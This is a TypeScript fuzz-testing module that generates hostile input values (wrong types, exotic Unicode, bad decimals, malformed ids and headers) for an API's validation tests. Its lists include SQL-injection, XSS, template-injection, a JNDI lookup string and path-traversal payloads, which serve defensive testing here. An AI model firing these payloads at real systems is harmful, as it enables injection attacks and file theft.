/**
 * fast-check arbitraries of hostile values for the fuzz (issue 12): wrong JSON types, exotic text
 * (astral characters, astral characters just before a "last 4" cut, RTL and zero-width marks,
 * SQL- and HTML-looking text), text the database cannot store (lone surrogates, NUL), huge text
 * (100 KB and more), numbers where money is a decimal string (including JSON text no
 * `JSON.stringify` writes: `1e309`, `-0`), malformed decimal strings, ids that are not ids, bad
 * pagination and bad header values. Each value carries its class, which the fuzz uses to decide
 * whether a request holding it must be refused.
 */
import fc from 'fast-check';

/** JSON text put into a body as is (values `JSON.stringify` cannot write). */
export class RawJson {
  constructor(readonly text: string) {}
}

export type ValueClass =
  | 'wrongType'
  | 'null'
  | 'moneyNumber'
  | 'badDecimal'
  | 'unstorable'
  | 'huge'
  | 'exotic'
  | 'json'
  | 'realId';

export interface HostileValue {
  cls: ValueClass;
  value: unknown;
}

/** Text no client may store: PostgreSQL's jsonb refuses lone surrogates and NUL. */
export const LONE_SURROGATES = ['\ud83d', '\ude42', '\udbff', '\udc00'];

const EXOTIC_TEXT = [
  'ab🙂cde', // the "last 4" of this cuts the emoji in half (issue 12, finding 1)
  'ß𝔘🙂Ǆ',
  '🙂🙂🙂🙂🙂',
  '1234🙂',
  '𝔘𝔘𝔘𝔘',
  '🇨🇩🇨🇩',
  'e\u0301\u0301\u0301',
  '\u202Egnp.exe',
  'abc\u200B\u200C\u200Ddef',
  '\uFEFFbom',
  '\u2028line\u2029sep',
  'مرحبا بالعالم',
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  '%s%s%s%n',
  '\\u0000',
  'null',
  'undefined',
  'NaN',
  ' ',
  '',
  '\t\r\n',
  'a'.repeat(256),
];

const ASTRAL = ['🙂', '𝔘', '😀', '🇨🇩', '𠜎', '🏳️‍🌈'];

/**
 * Text whose last few UTF-16 units split an astral character from what follows, 0 to 5 units
 * before the end (a "keep the last 4" cut of `ab🙂cde` keeps half the emoji: issue 12, finding
 * 1), and the webhook example. Every free-text field is tried with each of these.
 */
export const BOUNDARY_TEXT: readonly string[] = [
  ...[0, 1, 2, 3, 4, 5].map((k) => `ab🙂${'cdefg'.slice(0, k)}`),
  'ß𝔘🙂Ǆ',
];

/** Text of exactly `length` printable ASCII characters. */
const asciiOf = (length: number) =>
  fc.string({ unit: 'grapheme-ascii', minLength: length, maxLength: length });

/**
 * An astral character followed by exactly 0–5 more code units: where a "keep the last N" cut
 * (masking, truncation) splits a surrogate pair when it counts UTF-16 units.
 */
export const astralCut: fc.Arbitrary<string> = fc
  .tuple(
    fc.integer({ min: 0, max: 8 }).chain(asciiOf),
    fc.constantFrom(...ASTRAL),
    fc.integer({ min: 0, max: 5 }).chain(asciiOf),
  )
  .map(([a, b, c]) => a + b + c);

export const exoticText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...EXOTIC_TEXT) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
  { weight: 4, arbitrary: astralCut },
);

const short = fc.string({ maxLength: 6 });

export const unstorableText: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(short, fc.constantFrom(...LONE_SURROGATES), short).map(([a, b, c]) => a + b + c),
  fc.tuple(short, short).map(([a, b]) => `${a}\u0000${b}`),
);

/** Between 100 KB and 160 KB of UTF-16 units. */
export const HUGE_TEXT_LENGTH_MIN = 100_000;
export const HUGE_TEXT_LENGTH_MAX = 160_000;
export const hugeText: fc.Arbitrary<string> = fc
  .tuple(
    fc.integer({ min: HUGE_TEXT_LENGTH_MIN, max: HUGE_TEXT_LENGTH_MAX }),
    fc.constantFrom('a', 'é', '🙂', '\u200B', 'ab🙂', '<a>'),
  )
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Money as a JSON number (issue 12, finding 5), including texts JSON.stringify never writes. */
export const moneyNumber: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  12.5,
  1,
  0.01,
  100,
  99999999999999.99,
  new RawJson('99999999999999.999'),
  new RawJson('1e309'),
  new RawJson('-0'),
  new RawJson('1E2'),
  new RawJson('0.1e1'),
  -1,
  0,
);

/** Decimal strings a money field must refuse (precision, sign, notation, spacing, size). */
export const badDecimal: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '12.505',
    '0',
    '0.00',
    '-1.00',
    '-0',
    '1e3',
    '1E2',
    '0x10',
    '1,00',
    '1.2.3',
    '.5',
    '5.',
    '+5.00',
    ' ',
    '',
    'NaN',
    'Infinity',
    '１２.００',
    '١٢٫٠٠',
    '9'.repeat(400),
    `0.${'0'.repeat(300)}1`,
  ),
  fc.integer({ min: 3, max: 12 }).map((decimals) => `1.${'1'.repeat(decimals)}`),
);

const WRONG_TYPES: unknown[] = [
  ...[42, 0, -1, 3.5, true, false],
  ...[[], ['x'], {}, { a: 1 }],
  ...['42', '', 'true', '2099-12-31T00:00:00Z'],
];
export const wrongType: fc.Arbitrary<unknown> = fc.constantFrom(...WRONG_TYPES);

/** Arbitrary JSON shapes for free-form objects (metadata, release_conditions). */
export const anyJson: fc.Arbitrary<unknown> = fc.jsonValue({ maxDepth: 4 });

export function hostileValue(realIds: readonly string[]): fc.Arbitrary<HostileValue> {
  const tagged = (cls: ValueClass, weight: number, arb: fc.Arbitrary<unknown>) => ({
    weight,
    arbitrary: arb.map((value): HostileValue => ({ cls, value })),
  });
  return fc.oneof(
    tagged('wrongType', 4, wrongType),
    tagged('null', 1, fc.constant(null)),
    tagged('moneyNumber', 3, moneyNumber),
    tagged('badDecimal', 3, badDecimal),
    tagged('unstorable', 2, unstorableText),
    tagged('huge', 1, hugeText),
    tagged('exotic', 6, exoticText),
    tagged('json', 1, anyJson),
    tagged('realId', 2, fc.constantFrom(...realIds)),
  );
}

/**
 * Values for a free-form text field (proof metadata, a note, a label, a webhook's fields): what
 * the service stores and masks as text, so mostly text, of every awkward kind.
 */
export function freeTextValue(realIds: readonly string[]): fc.Arbitrary<HostileValue> {
  const tagged = (cls: ValueClass, weight: number, arb: fc.Arbitrary<unknown>) => ({
    weight,
    arbitrary: arb.map((value): HostileValue => ({ cls, value })),
  });
  return fc.oneof(
    tagged('exotic', 10, exoticText),
    tagged('huge', 1, hugeText),
    tagged('unstorable', 2, unstorableText),
    tagged('json', 1, anyJson),
    tagged('wrongType', 1, wrongType),
    tagged('null', 1, fc.constant(null)),
    tagged('realId', 1, fc.constantFrom(...realIds)),
  );
}

/** Path segments that are not ids (already URL-encoded where they need to be). */
export const badIdSegment: fc.Arbitrary<{ segment: string; kind: string }> = fc.oneof(
  fc.constantFrom(
    { segment: 'abc', kind: 'word' },
    { segment: '1', kind: 'number' },
    { segment: '-1', kind: 'number' },
    { segment: '00000000-0000-0000-0000-00000000000g', kind: 'almost uuid' },
    { segment: '00000000-0000-0000-0000-000000000000', kind: 'nil uuid' },
    { segment: '..', kind: 'dot-dot' },
    { segment: '.', kind: 'dot' },
    { segment: '%2e%2e', kind: 'encoded dot-dot' },
    { segment: '..%2f..%2fusers', kind: 'encoded traversal' },
    { segment: '%00', kind: 'NUL' },
    { segment: '%ZZ', kind: 'bad percent-encoding' },
    { segment: '%', kind: 'bad percent-encoding' },
    { segment: '%C0%AF', kind: 'overlong UTF-8' },
    { segment: '%ED%A0%BD', kind: 'UTF-8 surrogate' },
    { segment: '%FF%FE', kind: 'invalid UTF-8' },
    { segment: '%F0%9F%99%82', kind: 'emoji' },
    { segment: "'%20OR%201=1--", kind: 'SQL-looking' },
    { segment: '%3Cscript%3E', kind: 'HTML-looking' },
    { segment: 'null', kind: 'word' },
    { segment: '{id}', kind: 'template' },
  ),
  fc
    .integer({ min: 301, max: 12_000 })
    .map((length) => ({ segment: 'a'.repeat(length), kind: `${length} characters` })),
  fc
    .string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
    .map((text) => ({ segment: encodeURIComponent(text), kind: 'encoded text' })),
);

/** Values of `limit`/`offset` a page query must refuse. */
const BAD_LIMITS = ['0', '201', '-1', '1e3', 'abc', '1.5', '', ' 5', '0x10', '5abc'];
const BAD_LIMITS_MORE = ['99999999999999999999', '１０'];
const BAD_OFFSETS = ['-1', 'abc', '1e3', '1000000001', '1.5', '', '-0'];

export const badPage: fc.Arbitrary<{ name: 'limit' | 'offset'; value: string | string[] }> =
  fc.constantFrom(
    ...[...BAD_LIMITS, ...BAD_LIMITS_MORE].map((value) => ({ name: 'limit' as const, value })),
    ...BAD_OFFSETS.map((value) => ({ name: 'offset' as const, value })),
    { name: 'limit' as const, value: ['1', '2'] },
    { name: 'offset' as const, value: ['0', '1'] },
  );

/** Idempotency-Key values outside 1–255 printable ASCII (as latin1 bytes on the wire). */
export const badIdempotencyKey: fc.Arbitrary<{ value: string; kind: string }> = fc.oneof(
  fc
    .integer({ min: 256, max: 2000 })
    .map((n) => ({ value: 'k'.repeat(n), kind: `${n} characters` })),
  fc.constantFrom(
    { value: 'clé-é', kind: 'non-ASCII (latin1)' },
    { value: 'ключ', kind: 'non-ASCII (Cyrillic, sent as UTF-8 bytes)' },
    { value: 'key\u00a0nbsp', kind: 'non-breaking space' },
    { value: 'key\u007f', kind: 'DEL' },
  ),
);

/** X-Min-Event-Position values that are no position token. */
export const badPositionToken: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'abc',
    '-1',
    '0:0:0',
    'null',
    '%00',
    'x'.repeat(5000),
    '1e309',
    '{}',
    'p1.',
    `p1.${'A'.repeat(65)}`,
    // Well-formed tokens whose content is not a position (too big, signed, three parts).
    `p1.${Buffer.from('99999999999999999999:1').toString('base64url')}`,
    `p1.${Buffer.from('-1:-1').toString('base64url')}`,
    `p1.${Buffer.from('1:2:3').toString('base64url')}`,
    `p1.${Buffer.from('1:🙂').toString('base64url')}`,
  ),
  fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 40 }),
);
